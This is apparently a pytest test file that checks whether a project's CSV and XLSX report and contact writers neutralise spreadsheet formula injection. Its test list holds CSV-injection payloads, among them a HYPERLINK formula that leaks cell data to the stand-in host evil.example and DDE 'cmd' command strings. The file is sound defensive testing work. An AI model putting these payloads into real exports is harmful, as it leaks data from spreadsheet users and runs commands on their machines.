"""Spreadsheet cells written from user data never become formulas (issue 11,
OWASP "CSV injection"): the reports' CSV/XLSX writers and the CSV tool's
writer."""

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from spoki_whatsapp_csv.tools.writer import CsvChunkWriter
from spoki_whatsapp_reports.tools.export import csv_bytes, xlsx_bytes

ATTACKS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", ATTACKS)
def test_reports_csv_quotes_formula_text(text):
    rows = _csv_rows(csv_bytes([text, "count"], [[text, 3], ["Total", -4]]))
    if text[0] in "=+-@\t\r":
        assert rows[0][0] == rows[1][0] == "'" + text
    assert rows[1][1] == "3"
    assert rows[2] == ["Total", "-4"], "numbers stay numbers"


def test_reports_csv_plain_text_untouched():
    rows = _csv_rows(csv_bytes(["Day", "Value"], [[date(2025, 3, 1), "Sandbox A"]]))
    assert rows[1] == ["2025-03-01", "Sandbox A"]


def test_reports_xlsx_text_is_never_a_formula():
    rows = [[text, 1] for text in ATTACKS] + [["+393471234567", -2], [date(2025, 3, 1), 2.5]]
    content = xlsx_bytes([("=Sheet", ["=Header", "Value"], rows)])
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml, "no formula element in the sheet"
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = list(sheet.iter_rows(values_only=False))
    assert (cells[0][0].value, cells[0][0].data_type) == ("=Header", "s")
    for index, text in enumerate(ATTACKS, start=1):
        assert (cells[index][0].value, cells[index][0].data_type) == (text, "s")
    phone = cells[len(ATTACKS) + 1]
    assert (phone[0].value, phone[0].data_type) == ("+393471234567", "s"), "E.164 numbers stay text, unquoted"
    assert (phone[1].value, phone[1].data_type) == (-2, "n")
    assert cells[-1][0].is_date and cells[-1][1].value == 2.5


def test_csv_tool_writer_quotes_formula_text():
    writer = CsvChunkWriter(["phone", "name"])
    writer.rows([["+393471234567", text] for text in ATTACKS])
    rows = _csv_rows(writer.take())
    assert rows[1][0] == "'+393471234567"
    for row, text in zip(rows[1:], ATTACKS, strict=True):
        assert row[1] == ("'" + text if text[0] in "=+-@\t\r" else text)


def test_contacts_xlsx_same_rules_as_csv():
    """The contact export in XLSX: E.164 plain in the phone column, every
    other cell neutralised like the CSV, all string cells (no formula)."""
    from spoki_whatsapp_csv.tools.writer import write_xlsx

    header = ["phone", "first name", "last name"]
    rows = [["+393475551234", "@SUM(1+1)", "-2+3"], ["+1 (555) 0100", "=1+1", "Rossi"], ["=cmd|' /C calc'!A0", "", ""]]
    content = write_xlsx(header, iter([rows[:2], rows[2:]]), phone_columns=(0,))
    sheet = load_workbook(io.BytesIO(content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == header
    assert values[1] == ["+393475551234", "'@SUM(1+1)", "'-2+3"]
    assert values[2] == ["'+1 (555) 0100", "'=1+1", "Rossi"], "only + and digits is plain in a phone column"
    assert values[3][0] == "'=cmd|' /C calc'!A0"
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value is not None)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
